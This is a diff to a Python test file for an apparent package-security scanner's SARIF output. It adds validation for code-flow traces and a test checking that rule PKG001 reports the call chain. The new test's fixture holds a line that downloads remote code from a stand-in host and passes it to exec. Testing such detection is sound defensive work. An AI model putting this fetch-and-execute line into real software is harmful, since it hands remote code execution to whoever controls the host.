@@ -17,7 +17,7 @@ ALLOWED = {
     "rule": {"id", "name", "shortDescription", "fullDescription", "help", "helpUri",
              "defaultConfiguration", "properties"},
     "result": {"ruleId", "ruleIndex", "level", "message", "locations", "occurrenceCount",
-               "stacks", "suppressions", "properties"},
+               "stacks", "codeFlows", "suppressions", "properties"},
     "artifact": {"location", "length", "hashes", "properties"},
     "region": {"startLine", "startColumn", "byteOffset", "byteLength"},
 }
@@ -83,13 +83,18 @@ def check_result(result, ids, artifacts):
     for suppression in result.get("suppressions", []):
         equal(set(suppression), {"kind", "justification"}, "a suppression")
         assert suppression["kind"] in ("inSource", "external"), suppression
-
-
     for stack in result.get("stacks", []):
         equal(set(stack), {"frames"}, "a stack")
         assert stack["frames"]
         for frame in stack["frames"]:
             check_frame(frame)
+    for flow in result.get("codeFlows", []):
+        (thread,) = flow["threadFlows"]
+        equal((set(flow), set(thread)), ({"threadFlows"}, {"locations"}), "a flow")
+        assert thread["locations"]
+        for step in thread["locations"]:
+            equal(set(step), {"location"}, "a step")
+            text_of(step["location"]["message"])
 
 
 def check_frame(frame):
@@ -172,6 +177,16 @@ def sarif_of_watches():
     equal(at, {"artifactLocation": {"uri": "mistralai/client/__init__.py"},
                "region": {"startLine": 22}})
     equal([e["kind"] for e in result["properties"]["events"]], ["exec"])
+
+
+@test
+def sarif_of_a_package_has_its_chain():
+    source = b"import requests\n\n\ndef f():\n    exec(requests.get('https://c.example.com').text)\n\n\nf()\n"
+    with folder(a_py=source) as d:
+        results = sarif("--policy", "package", "a.py", cwd=d)["results"]
+    flow = [r for r in results if r["ruleId"] == "PKG001"][0]["codeFlows"][0]
+    steps = [s["location"]["message"]["text"] for s in flow["threadFlows"][0]["locations"]]
+    equal(steps, ["a.py:8", "f (5)", "requests.get"])
 
 
 @test
